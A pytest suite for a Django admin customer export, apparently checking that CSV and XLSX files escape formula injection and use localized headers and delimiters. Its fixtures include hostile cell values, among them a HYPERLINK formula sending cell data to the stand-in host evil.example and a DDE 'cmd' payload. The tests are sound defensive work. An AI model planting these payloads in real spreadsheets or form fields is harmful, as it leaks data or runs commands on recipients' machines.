"""Customers out to CSV and XLSX from the admin: headed in the office's language, formulas never run."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from customers.spreadsheets import FORMULA_STARTS, escape_formula, unescape_formula
from tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'


def export(client, file_format: str, language="de"):
    # The export form lists CSV first, XLSX second.
    return client.post(
        reverse("admin:customers_customer_export"),
        {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"},
        HTTP_ACCEPT_LANGUAGE=language,
    )


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_escaped_and_can_be_read_back(start):
    value = f"{start}1+1"

    assert escape_formula(value) == f"'{start}1+1"
    assert unescape_formula(escape_formula(value)) == value
    assert escape_formula("Klaus Hendricks") == "Klaus Hendricks"
    assert escape_formula(42) == 42


def test_the_csv_export_escapes_a_hostile_name_and_is_headed_in_the_offices_language(admin_client_office):
    CustomerFactory(full_name=HOSTILE, phone="+31628471937", country="NL", notes="@SUM(1)\tx")

    response = export(admin_client_office, "csv")

    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="kunden-' in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert header[:4] == ["ID", "Vollständiger Name", "E-Mail", "Telefon"]
    assert row[1] == "'" + HOSTILE
    assert row[3] == "'+31 6 28471937"
    assert row[header.index("Notizen")] == "'@SUM(1)\tx"
    assert row[header.index("Land")] == "Niederlande"


def test_the_xlsx_export_writes_a_hostile_name_as_text_never_as_a_formula(admin_client_office):
    CustomerFactory(full_name=HOSTILE, phone="+492821123456")

    response = export(admin_client_office, "xlsx", language="nl")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]][:4] == ["ID", "Volledige naam", "E-mail", "Telefoon"]
    name = sheet["B2"]
    assert name.value == HOSTILE
    assert name.data_type == "s" and name.number_format == "@"
    assert sheet["D2"].value == "+49 2821 123456"
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_export_follows_the_lists_search(admin_client_office):
    CustomerFactory(full_name="Klaus Hendricks", city="Kleve")
    CustomerFactory(full_name="Anouk Jansen", city="Nijmegen")

    response = admin_client_office.post(
        reverse("admin:customers_customer_export") + "?q=Nijmegen", {"format": "0", "resource": "0"}
    )

    text = response.content.decode("utf-8-sig")
    assert "Anouk Jansen" in text and "Klaus Hendricks" not in text


# What a visitor can type on /request/ or into a booking's notes, meant to become a cell of its own.
HOSTILE_FIELDS = ["Weg 1;=1+1;", "Notiz\n=cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "Bob,-2+3;x", 'a;"=1+1"\r\n+1']
# Every place a reader may start a cell: after any separator or line break, quotes or not.
NAIVE_CELL = re.compile(r"[;,\t\r\n]")


def cells_as_read(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def runs_as_a_formula(cell: str) -> bool:
    return cell.lstrip('"').startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", HOSTILE_FIELDS)
def test_a_separator_or_line_break_inside_a_cell_cannot_start_a_formula_and_the_cell_reads_back(value):
    escaped = escape_formula(value)

    assert not [piece for piece in NAIVE_CELL.split(escaped) if runs_as_a_formula(piece)]
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_formula(escaped) == value


@pytest.mark.parametrize("value", ["'=1+1", "''=1", "a;'=1", "Weg 1;'\"=1", "'Hallo", "a;'b", "Müller, Köln"])
def test_a_cell_that_looks_escaped_already_reads_back_as_it_was(value):
    assert unescape_formula(escape_formula(value)) == value


@pytest.mark.parametrize(("language", "delimiter"), [("de", ";"), ("nl", ";"), ("en", ",")])
def test_the_csv_export_is_separated_as_the_offices_excel_splits_it(admin_client_office, language, delimiter):
    CustomerFactory(full_name="Anouk Jansen", city="Nijmegen", notes="Hond, blaft")

    text = export(admin_client_office, "csv", language=language).content.decode("utf-8")

    assert text.startswith("\ufeff")  # Excel reads UTF-8 (umlauts) only with it
    lines = text.removeprefix("\ufeff").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)  # every field quoted
    header, row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))
    assert len(header) == len(row) == 12
    assert row[header.index({"de": "Notizen", "nl": "Notities", "en": "Notes"}[language])] == "Hond, blaft"


def test_hostile_fields_are_neutralised_whichever_separator_the_file_is_opened_with(admin_client_office):
    for value in HOSTILE_FIELDS:
        CustomerFactory(full_name=value, street=value, notes=value)

    text = export(admin_client_office, "csv", language="de").content.decode("utf-8-sig")

    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == len(HOSTILE_FIELDS) and all(len(row) == len(header) for row in rows)
    street = header.index("Straße und Hausnummer")
    assert {row[street] for row in rows} == {escape_formula(value) for value in HOSTILE_FIELDS}
    for delimiter in (";", ",", "\t"):
        assert not [cell for cell in cells_as_read(text, delimiter) if runs_as_a_formula(cell)], delimiter
    assert not [piece for piece in NAIVE_CELL.split(text) if runs_as_a_formula(piece)]


def test_the_xlsx_export_has_no_formula_in_its_file(admin_client_office):
    CustomerFactory(full_name='=HYPERLINK("http://evil.example";"Klick")', street="Weg 1;=1+1;")

    response = export(admin_client_office, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == '=HYPERLINK("http://evil.example";"Klick")'
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
